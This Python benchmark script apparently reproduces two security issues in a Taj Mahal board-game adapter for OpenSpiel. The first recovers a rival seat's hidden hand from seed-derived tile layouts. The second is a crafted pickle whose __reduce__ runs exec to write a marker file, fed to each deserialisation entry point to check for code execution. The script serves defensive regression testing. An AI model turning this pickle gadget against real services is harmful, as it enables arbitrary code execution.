"""Issue 19's attacks on the OpenSpiel game ``python_tajmahal``: what each one gets.

1. From seat 0's information state right after the setup, name seat 1's hand
   (20 deals).  Against the old model (one chance node over 65,536 seeds) the
   attacker matches the printed province order to a seed's tile layout; against
   the chance-node model the best a seat can do is a world consistent with its
   information (``resample_from_infostate``).
2. A crafted OpenSpiel serialisation whose pickle would create a file, given to
   every deserialisation entry point; prints whether the file appeared.

Usage::

    python benchmarks/openspiel_attacks.py                  # this checkout
    python benchmarks/openspiel_attacks.py --src /other/src # another checkout's src
"""

from __future__ import annotations

import argparse
import base64
import os
import pickle
import random
import subprocess
import sys
import tempfile
from collections.abc import Callable
from typing import Any


def name_the_hand(game: Any, trials: int = 20) -> tuple[int, int]:
    """(hands named, trials) of attack 1."""
    import pyspiel

    import tajmahal as tm

    rng = random.Random(2026)
    chance_model = "deals" not in game.get_parameters()
    layouts: dict[tuple[str, ...], list[int]] = {}
    if not chance_model:
        from tajmahal.rules.setup import place_tiles

        for seed in range(game.max_chance_outcomes()):
            order = place_tiles(tm.standard_components(), seed).province_order
            layouts.setdefault(order, []).append(seed)
    hits = 0
    for _ in range(trials):
        state = game.new_initial_state()
        if chance_model:
            while state.is_chance_node():
                actions, weights = zip(*state.chance_outcomes(), strict=True)
                state.apply_action(rng.choices(actions, weights)[0])
        else:
            state.apply_action(rng.randrange(game.max_chance_outcomes()))
        info = state.information_state_string(0)
        truth = state.game_state.hands[1]
        line = next(x for x in info.splitlines() if x.startswith("provinces "))
        if chance_model:
            sampler = pyspiel.UniformProbabilitySampler(0.0, 1.0)
            guess = state.resample_from_infostate(0, sampler).game_state.hands[1]
        else:
            seeds = layouts.get(tuple(line.split()[1:]), [])
            guess = tm.new_game(3, seed=seeds[0]).hands[1] if len(seeds) == 1 else None
        hits += guess == truth
    return hits, trials


class _Payload:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str]]:
        return exec, (f"open({self.marker!r}, 'w').write('x')",)


def crafted_pickles(game: Any) -> list[tuple[str, bool, str]]:
    """(entry point, did the payload run, what the call did) of attack 2."""
    import pyspiel

    import tajmahal.adapters.openspiel_game as module

    marker = os.path.join(tempfile.mkdtemp(), "pwned")
    blob = base64.b64encode(pickle.dumps({"x": _Payload(marker)})).decode()
    state_text = f"history=\nmove_number=0\n__dict__={blob}"
    whole = pyspiel.serialize_game_and_state(game, game.new_initial_state())
    whole = whole[: whole.index("[State]") + len("[State]\n")] + state_text
    calls: list[tuple[str, Callable[[], Any]]] = [
        ("game.deserialize_state (from Python)", lambda: game.deserialize_state(state_text))
    ]
    if hasattr(module, "deserialize_game_and_state"):
        calls.append(
            (
                "openspiel_game.deserialize_game_and_state",
                lambda: module.deserialize_game_and_state(whole),
            )
        )
    calls.append(
        (
            "pyspiel.deserialize_game_and_state (C++)",
            lambda: pyspiel.deserialize_game_and_state(whole),
        )
    )
    rows = []
    for name, call in calls:
        if os.path.exists(marker):
            os.remove(marker)
        try:
            call()
            outcome = "returned a state"
        except Exception as exc:  # the outcome is what we report
            outcome = f"{type(exc).__name__}: {str(exc)[:60]}"
        rows.append((name, os.path.exists(marker), outcome))
    return rows


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--src", help="the src directory of the checkout to attack")
    args = parser.parse_args(argv)
    if args.src:
        env = {**os.environ, "PYTHONPATH": args.src}
        return subprocess.run([sys.executable, __file__], env=env, check=False).returncode
    import pyspiel

    import tajmahal.adapters.openspiel_game  # noqa: F401  (registers the game)

    game = pyspiel.load_game("python_tajmahal", {"players": 3})
    hits, trials = name_the_hand(game)
    print(f"1. seat 1's hand named from seat 0's information state: {hits} of {trials}")
    for name, ran, outcome in crafted_pickles(game):
        print(f"2. crafted pickle via {name}: code ran: {'YES' if ran else 'no'}; {outcome}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
